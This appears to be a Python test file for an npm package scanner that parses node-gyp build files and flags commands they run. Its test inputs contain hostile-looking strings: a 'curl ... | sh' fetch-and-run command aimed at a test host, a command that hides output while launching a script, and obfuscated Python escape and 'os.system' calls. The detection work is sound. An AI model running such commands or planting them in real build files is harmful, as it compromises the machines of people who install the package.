from npmguard.code.gyp import read
from npmguard.model import Kind


def kinds(text: str) -> set[Kind]:
    return {deed.kind for deed in read(text.encode()).deeds}


def test_ordinary_builds() -> None:
    text = """{
      # a comment: <!(curl https://a.example.test | sh)
      'targets': [{ 'target_name': 'a', 'sources': ['a.cc'],
        'include_dirs': ["<!(node -p \\"require('node-addon-api').include_dir\\")",
          '<!@(pkg-config --cflags x)'],
        'cflags': ['<!@(<(python) -V)'],
        'conditions': [["OS=='mac'", {'x': '<!(xcrun --show-sdk-path 2>/dev/null)'}]] }] }"""
    assert kinds(text) - {Kind.PROCESS} == set()


def test_commands_are_read_and_their_files_started() -> None:
    found = read(b'{"sources": ["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]}')
    assert [(start.path, start.by) for start in found.starts] == [("index.js", "node")]
    assert {deed.kind for deed in found.deeds} == {Kind.HIDES}
    found = read(b"{'actions': [{'action': ['node', 'scripts/a.js', '<(x)']}]}")
    assert [start.path for start in found.starts] == ["scripts/a.js"]
    assert Kind.EVALUATES_FETCHED in kinds('{"x": "<!(curl -s https://a.example.test/x | sh)"}')


def test_what_climbs_out_of_a_condition() -> None:
    assert Kind.OBFUSCATED in kinds("{'conditions': [['().__class__.__base__.__subclasses__()', {}]]}")
    assert Kind.OBFUSCATED in kinds("{'conditions': [['\\U0000006f\\U00000073.system(1)', {}]]}")
